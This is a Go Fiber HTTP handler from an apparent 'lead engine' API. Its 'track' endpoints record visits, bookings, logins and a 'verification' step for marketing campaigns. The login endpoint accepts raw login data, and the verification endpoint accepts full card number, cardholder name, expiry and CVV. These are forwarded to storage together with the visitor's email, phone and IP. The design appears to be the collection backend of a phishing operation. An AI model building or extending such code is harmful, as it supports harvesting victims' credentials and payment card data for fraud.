package handlers

import (
	"encoding/json"

	"github.com/funnelpulse/lead-engine-api/internal/application/usecases"
	"github.com/funnelpulse/lead-engine-api/internal/domain/entities"
	"github.com/gofiber/fiber/v2"
)

type TrackHandler struct {
	trackUseCase usecases.TrackUseCase
}

func NewTrackHandler(trackUseCase usecases.TrackUseCase) *TrackHandler {
	return &TrackHandler{trackUseCase}
}

type trackRequest struct {
	CampaignID  string `json:"campaign_id"`
	IPAddress   string `json:"ip_address"`
	Email       string `json:"email"`
	FirstName   string `json:"first_name"`
	LastName    string `json:"last_name"`
	Phone       string `json:"phone"`
	Description string `json:"description"`
	UserAgent   string `json:"user_agent"`
	SessionID   string `json:"session_id"`

	BookingData  json.RawMessage `json:"booking_data"`
	SelectedPlan string          `json:"selected_plan"`
	LoginData    json.RawMessage `json:"login_data"`
	CardNumber   string          `json:"card_number"`
	CardName     string          `json:"card_name"`
	CardExpiry   string          `json:"card_expiry"`
	CardCVV      string          `json:"card_cvv"`
}

func (h *TrackHandler) TrackVisit(c *fiber.Ctx) error {
	return h.track(c, entities.ActionVisit)
}

func (h *TrackHandler) TrackBooking(c *fiber.Ctx) error {
	return h.track(c, entities.ActionBooking)
}

func (h *TrackHandler) TrackLogin(c *fiber.Ctx) error {
	return h.track(c, entities.ActionLogin)
}

func (h *TrackHandler) TrackVerification(c *fiber.Ctx) error {
	return h.track(c, entities.ActionVerification)
}

func (h *TrackHandler) track(c *fiber.Ctx, kind entities.ActionKind) error {
	var req trackRequest
	if err := c.BodyParser(&req); err != nil {
		return c.Status(fiber.StatusBadRequest).JSON(fiber.Map{
			"error": "invalid request body",
		})
	}

	ev := entities.TrackEvent{
		Kind:        kind,
		CampaignID:  req.CampaignID,
		IPAddress:   req.IPAddress,
		Email:       req.Email,
		FirstName:   req.FirstName,
		LastName:    req.LastName,
		Phone:       req.Phone,
		Description: req.Description,
		UserAgent:   req.UserAgent,
		SessionID:   req.SessionID,
	}

	// Fall back to what the request itself tells us about the visitor.
	if ev.IPAddress == "" {
		ev.IPAddress = c.IP()
	}
	if ev.UserAgent == "" {
		ev.UserAgent = c.Get(fiber.HeaderUserAgent)
	}

	switch kind {
	case entities.ActionBooking:
		ev.Booking = &entities.BookingPayload{
			Data:         req.BookingData,
			SelectedPlan: req.SelectedPlan,
		}
	case entities.ActionLogin:
		ev.Login = &entities.LoginPayload{
			Data: req.LoginData,
		}
	case entities.ActionVerification:
		ev.Verification = &entities.VerificationPayload{
			CardNumber: req.CardNumber,
			CardName:   req.CardName,
			CardExpiry: req.CardExpiry,
			CardCVV:    req.CardCVV,
		}
	}

	result, err := h.trackUseCase.Track(c.Context(), ev)
	if err != nil {
		return errorJSON(c, err)
	}

	return c.JSON(result)
}
